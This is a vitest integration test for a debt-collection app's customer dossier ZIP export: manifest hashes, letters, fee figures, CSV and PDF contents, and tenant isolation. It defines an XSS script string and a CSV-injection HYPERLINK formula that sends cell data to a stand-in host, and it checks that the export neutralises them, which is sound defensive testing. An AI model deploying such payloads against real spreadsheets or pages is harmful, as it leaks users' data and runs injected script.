import { createHash } from 'node:crypto';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { strFromU8, unzipSync } from 'fflate';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { openDatabase, type Db } from '../src/adapters/db/database.js';
import { createCustomer } from '../src/adapters/db/stores/customers.js';
import { createDebtorRequest } from '../src/adapters/db/stores/debtor-requests.js';
import { createInvoice, createPayment, insertAllocation } from '../src/adapters/db/stores/documents.js';
import { putInvoiceFile } from '../src/adapters/db/stores/invoice-files.js';
import { createOrganization } from '../src/adapters/db/stores/organizations.js';
import { pdfWords } from '../src/adapters/channels/pdf-words.test-support.js';
import { createUser } from '../src/adapters/db/stores/users.js';
import { enqueueMessage } from '../src/app/outbox/enqueue-message.js';
import { buildApp } from '../src/http/build-app.js';
import { eur, signIn, type ApiCaller, type ApiResponse } from './support/api-session.js';
import { ENGINES, freshDatabaseUrl } from './support/engines.js';
import { relanceCli } from './support/relance-cli.js';

const PASSWORD = 'correct horse battery';
const NOW = new Date('2025-03-10T10:00:00Z');
const TODAY = '2025-03-10';
const SCRIPT = '<script>alert("owned")</script>';
const FORMULA = '=HYPERLINK("http://evil.test/?"&A1,"Click to pay")';
const LETTER_PDF = Buffer.from('%PDF-1.4\n% formal notice as posted\n%%EOF\n');
const REMINDER_EML = Buffer.from('Subject: Facture F-1 échue\r\n\r\nBonjour\r\n');
const INVOICE_PDF = Buffer.from('%PDF-1.4\n% invoice F-1\n%%EOF\n');

interface Proof {
  path: string;
  channel: string;
  status: string;
  sent_on: string | null;
  status_words: { en: string; fr: string };
  provider_reference: string | null;
}

interface Manifest {
  generated_on: string;
  customer: { reference: string; name: string };
  creditor: { legal_name: string };
  figures: { currency: string; balance: string; overdue: string; interest: string | null; indemnity: string; total: string | null };
  letters: Proof[];
  emails: Proof[];
  files: { path: string; description: { en: string; fr: string }; sha256: string; size: number }[];
}

const sha256 = (bytes: Uint8Array) => createHash('sha256').update(bytes).digest('hex');

function open(zip: Uint8Array): { files: Record<string, Uint8Array>; manifest: Manifest } {
  const files = unzipSync(zip);
  return { files, manifest: JSON.parse(strFromU8(files['manifest.json']!)) as Manifest };
}

describe.each(ENGINES)('the customer case file (dossier) on %s', (engine) => {
  let url: string;
  let db: Db;
  let app: FastifyInstance;
  let admin: ApiCaller;
  let customerId: string;
  let bravoCustomerId: string;
  let zip: Uint8Array;
  let headers: Record<string, unknown>;

  beforeAll(async () => {
    url = await freshDatabaseUrl(engine);
    db = await openDatabase(url);
    const org = await createOrganization(db, { name: 'Alpha', legalName: 'Alpha Industries SAS', country: 'FR', currency: 'EUR', timeZone: 'Europe/Paris', locale: 'fr' });
    const bravo = await createOrganization(db, { name: 'Bravo', country: 'BE', currency: 'EUR', timeZone: 'Europe/Brussels', locale: 'fr' });
    await createUser(db, org.id, { email: 'admin@alpha.test', name: 'Alice Martin', password: PASSWORD, role: 'admin' });
    await createUser(db, org.id, { email: 'viewer@alpha.test', name: 'Victor Viewer', password: PASSWORD, role: 'viewer' });
    const customer = await createCustomer(db, org.id, { externalRef: 'C-1', name: 'Dupont SARL' });
    customerId = customer.id;
    const f1 = await createInvoice(db, org.id, { customerId, number: 'F-1', issueDate: '2025-01-01', dueDate: '2025-01-31', currency: 'EUR', amountMinor: 1000_00 });
    await createInvoice(db, org.id, { customerId, number: 'F-2', issueDate: '2025-01-15', dueDate: '2025-02-14', currency: 'EUR', amountMinor: 600_00 });
    const payment = await createPayment(db, org.id, { customerId, reference: 'VIR-77', receivedOn: '2025-02-03', currency: 'EUR', amountMinor: 300_00 });
    await insertAllocation(db, org.id, { invoiceId: f1.id, paymentId: payment.id, amountMinor: 300_00, allocatedOn: '2025-02-03' });
    await putInvoiceFile(db, {
      invoice_id: f1.id, organization_id: org.id, file_name: 'facture F-1.pdf', content_type: 'application/pdf',
      size_bytes: INVOICE_PDF.length, sha256: sha256(INVOICE_PDF), content_base64: INVOICE_PDF.toString('base64'), uploaded_at: '2025-01-02T09:00:00Z',
    });

    // The formal notice went as a registered letter; the outbox kept the PDF it posted.
    const folder = mkdtempSync(join(tmpdir(), 'relance-dossier-'));
    const letterPath = join(folder, 'notice.pdf');
    writeFileSync(letterPath, LETTER_PDF);
    const letter = await enqueueMessage(db, org.id, {
      actionId: 'action-notice-1', customerId, channel: 'registered_letter', recipient: { name: 'Dupont SARL', postalAddress: '1 rue de la Paix\n75002 Paris' },
      sender: { name: 'Alpha Industries' }, subject: 'Mise en demeure', text: 'Formal notice', invoiceIds: [f1.id], notBefore: '2025-03-05T08:00:00Z',
    });
    await db.kysely.updateTable('outbox_messages').set({ status: 'sent', sent_at: '2025-03-05T08:01:00Z', document_path: letterPath }).where('id', '=', letter.id).execute();

    const emailPath = join(folder, 'reminder.eml');
    writeFileSync(emailPath, REMINDER_EML);
    const email = await enqueueMessage(db, org.id, {
      actionId: 'action-reminder-1', customerId, channel: 'email', recipient: { email: 'ap@dupont.test' },
      sender: { name: 'Alpha Industries' }, subject: 'Facture F-1 échue', text: 'Reminder', invoiceIds: [f1.id], notBefore: '2025-02-10T08:00:00Z',
    });
    await db.kysely.updateTable('outbox_messages').set({ status: 'sent', sent_at: '2025-02-10T08:01:00Z', document_path: emailPath, provider_message_id: '<r1@alpha.test>' }).where('id', '=', email.id).execute();

    await createDebtorRequest(db, org.id, { customerId, kind: 'question', status: 'open', payload: {}, message: `${FORMULA} ${SCRIPT}`, createdOn: '2025-03-06' });
    bravoCustomerId = (await createCustomer(db, bravo.id, { externalRef: 'B-1', name: 'Bravo Client' })).id;

    app = await buildApp({ db, now: () => NOW });
    await app.ready();
    admin = await signIn(app, 'admin@alpha.test', PASSWORD);
    const step = async (path: string, body: unknown) => {
      const response = await admin.post(path, body);
      expect(response.statusCode, `${path}: ${response.body}`).toBe(201);
      return response.json();
    };
    await step(`/api/customers/${customerId}/disputes`, { invoice_number: 'F-2', reason: 'not_delivered', note: `${FORMULA} ${SCRIPT}` });
    await step(`/api/customers/${customerId}/promises`, { promised_on: '2025-03-20' });
    await step(`/api/customers/${customerId}/payment-plans`, {
      invoice_numbers: ['F-1'],
      instalments: [{ due_date: '2025-03-31', amount: eur('350.00') }, { due_date: '2025-04-30', amount: eur('350.00') }],
    });
    await step(`/api/customers/${customerId}/notes`, { text: `Customer wrote: ${FORMULA}` });

    // The caller answers what Fastify's inject answers: the raw bytes are there too.
    const response = (await admin.get(`/api/customers/${customerId}/dossier`)) as ApiResponse & { rawPayload: Buffer };
    expect(response.statusCode, response.body).toBe(200);
    headers = response.headers;
    zip = response.rawPayload;
  });

  afterAll(async () => {
    await app?.close();
    await db?.close();
  });

  it('answers a ZIP with a file name, whose manifest lists exactly its files with their SHA-256 and sizes', () => {
    expect(headers['content-type']).toBe('application/zip');
    expect(headers['content-disposition']).toBe(`attachment; filename="dossier-C-1-${TODAY}.zip"`);
    const { files, manifest } = open(zip);
    expect(Object.keys(files).filter((path) => path !== 'manifest.json').sort()).toEqual(manifest.files.map((f) => f.path).sort());
    for (const file of manifest.files) {
      expect(sha256(files[file.path]!), file.path).toBe(file.sha256);
      expect(files[file.path]!.byteLength, file.path).toBe(file.size);
      expect(file.description.en.length).toBeGreaterThan(0);
      expect(file.description.fr.length).toBeGreaterThan(0);
    }
    expect(manifest.files.map((f) => f.path)).toEqual(expect.arrayContaining([
      'statement.pdf', 'invoices/F-1.pdf', 'timeline.pdf', 'timeline.csv', 'disputes.csv', 'arrangements.csv', 'requests.csv', 'late-fees.pdf',
    ]));
    expect(Buffer.from(files['invoices/F-1.pdf']!)).toEqual(INVOICE_PDF);
    expect(manifest.customer).toMatchObject({ reference: 'C-1', name: 'Dupont SARL' });
    expect(manifest.creditor.legal_name).toBe('Alpha Industries SAS');
    expect(manifest.generated_on).toBe(TODAY);
  });

  it('holds the registered letter as posted and the reminder email as sent, each with the day it went and its status in words', () => {
    const { files, manifest } = open(zip);
    expect(manifest.letters).toHaveLength(1);
    const [letter] = manifest.letters;
    expect(letter).toMatchObject({ channel: 'registered_letter', status: 'sent', sent_on: '2025-03-05' });
    expect(letter!.status_words.en).toMatch(/sent/i);
    expect(Buffer.from(files[letter!.path]!)).toEqual(LETTER_PDF);
    expect(manifest.emails).toEqual([expect.objectContaining({ channel: 'email', status: 'sent', sent_on: '2025-02-10', provider_reference: '<r1@alpha.test>' })]);
    expect(Buffer.from(files[manifest.emails[0]!.path]!)).toEqual(REMINDER_EML);
  });

  it('states the figures the API reports: balance of the statement, interest and indemnity of the late fees', async () => {
    const { manifest } = open(zip);
    const statement = (await admin.get(`/api/customers/${customerId}/statement`)).json();
    const fees = (await admin.get(`/api/customers/${customerId}/late-fees`)).json();
    const total = fees.totals.find((t: { open: { currency: string } }) => t.open.currency === 'EUR');
    expect(manifest.figures).toMatchObject({ currency: 'EUR', balance: statement.closing_balance.amount, overdue: '1300.00', interest: total.interest.amount, indemnity: total.indemnity.amount });
    expect(manifest.figures.balance).toBe('1300.00');
    expect(Number(manifest.figures.interest)).toBeGreaterThan(0);
    expect(manifest.figures.indemnity).toBe('80.00');
    const cents = (text: string) => Math.round(Number(text) * 100);
    expect(cents(manifest.figures.total!)).toBe(cents(manifest.figures.balance) + cents(manifest.figures.interest!) + cents(manifest.figures.indemnity));
  });

  it('lists the dispute, the promise and the plan with its instalments, and neutralises the formula a customer typed', () => {
    const { files } = open(zip);
    const text = (path: string) => strFromU8(files[path]!);
    for (const path of ['timeline.csv', 'disputes.csv', 'arrangements.csv', 'requests.csv']) {
      expect([...files[path]!.subarray(0, 3)], `${path} opens with the UTF-8 byte-order mark`).toEqual([0xef, 0xbb, 0xbf]);
      expect(text(path), path).toContain('\r\n');
      // No cell starts with "=": a spreadsheet shows the text instead of running it.
      expect(text(path), path).not.toMatch(/(^|,|")=HYPERLINK/m);
    }
    expect(text('disputes.csv')).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""Click to pay"") ${SCRIPT.replace(/"/g, '""')}"`);
    expect(text('disputes.csv')).toMatch(/F-2,2025-03-10,not_delivered,Non livré/);
    expect(text('requests.csv')).toContain("'=HYPERLINK(");
    expect(text('timeline.csv')).toContain("Customer wrote: =HYPERLINK(");
    const arrangements = text('arrangements.csv').split('\r\n');
    expect(arrangements.filter((line) => line.startsWith('promise,'))).toEqual([expect.stringContaining('2025-03-20')]);
    expect(arrangements.filter((line) => line.startsWith('payment_plan,'))).toEqual([expect.stringContaining('700.00,EUR')]);
    expect(arrangements.filter((line) => line.startsWith('instalment,')).map((line) => line.split(',').slice(4, 7))).toEqual([
      ['1', '2025-03-31', '350.00'],
      ['2', '2025-04-30', '350.00'],
    ]);
  });

  it('writes the timeline oldest first with dates in words, and the late fees per rate period, in the creditor\'s language', async () => {
    const { files } = open(zip);
    const timeline = (await pdfWords(Buffer.from(files['timeline.pdf']!))).join(' ');
    expect(timeline).toContain('Historique des échanges');
    expect(timeline).toMatch(/3 février 2025/);
    // Past the heading ("Au 10 mars 2025"), the payment of 3 February comes before the dispute of 10 March.
    const table = timeline.slice(timeline.indexOf('Événement'));
    expect(table.indexOf('3 février 2025')).toBeGreaterThan(0);
    expect(table.indexOf('3 février 2025')).toBeLessThan(table.indexOf('10 mars 2025'));
    const fees = (await admin.get(`/api/customers/${customerId}/late-fees`)).json();
    const lateFees = (await pdfWords(Buffer.from(files['late-fees.pdf']!))).join(' ');
    for (const invoice of fees.invoices) {
      expect(lateFees).toContain(`Facture ${invoice.number}`);
      expect(lateFees).toContain(`${invoice.days_late} jours de retard`);
    }
    expect(lateFees).toContain('40,00');
  });

  it('keeps both documents of two invoices whose numbers a file name writes alike', async () => {
    const org = (await db.kysely.selectFrom('organizations').select('id').where('name', '=', 'Alpha').executeTakeFirstOrThrow()).id;
    const other = await createCustomer(db, org, { externalRef: 'C-2', name: 'Martin SA' });
    for (const [number, body] of [['A/1', 'first'], ['A:1', 'second']] as const) {
      const invoice = await createInvoice(db, org, { customerId: other.id, number, issueDate: '2025-01-01', dueDate: '2025-01-31', currency: 'EUR', amountMinor: 100_00 });
      const content = Buffer.from(`%PDF-1.4\n% ${body}\n%%EOF\n`);
      await putInvoiceFile(db, { invoice_id: invoice.id, organization_id: org, file_name: `${body}.pdf`, content_type: 'application/pdf', size_bytes: content.length, sha256: sha256(content), content_base64: content.toString('base64'), uploaded_at: '2025-01-02T09:00:00Z' });
    }
    const response = (await admin.get(`/api/customers/${other.id}/dossier`)) as ApiResponse & { rawPayload: Buffer };
    const { files, manifest } = open(response.rawPayload);
    const invoices = manifest.files.filter((f) => f.path.startsWith('invoices/'));
    expect(invoices.map((f) => f.path).sort()).toEqual(['invoices/A_1-2.pdf', 'invoices/A_1.pdf']);
    expect(invoices.map((f) => f.description.en).sort()).toEqual(['Invoice A/1 (open)', 'Invoice A:1 (open)']);
    expect(new Set(invoices.map((f) => strFromU8(files[f.path]!))).size).toBe(2);
  });

  it("refuses another organization's customer as not found", async () => {
    const response = await admin.get(`/api/customers/${bravoCustomerId}/dossier`);
    expect(response.statusCode).toBe(404);
    expect(response.headers['content-type']).toMatch(/problem\+json/);
  });

  it('writes the same case file from the command line', async () => {
    const out = join(mkdtempSync(join(tmpdir(), 'relance-dossier-cli-')), 'dupont.zip');
    const run = await relanceCli(['dossier', 'C-1', '--out', out, '--as-of', TODAY, '--org', 'Alpha'], { DATABASE_URL: url, RELANCE_ORG: '' });
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('balance 1300.00 EUR');
    const fromCli = open(readFileSync(out));
    const fromApi = open(zip);
    expect(fromCli.manifest.figures).toEqual(fromApi.manifest.figures);
    expect(fromCli.manifest.letters).toEqual(fromApi.manifest.letters);
    // PDFs carry the instant they were drawn; every other file is byte for byte the same.
    const stable = (m: Manifest) => m.files.map((f) => ({ path: f.path, sha256: f.path.endsWith('.pdf') && !f.path.startsWith('invoices/') && !f.path.startsWith('letters/') ? '' : f.sha256 }));
    expect(stable(fromCli.manifest)).toEqual(stable(fromApi.manifest));
  }, 30_000);
});
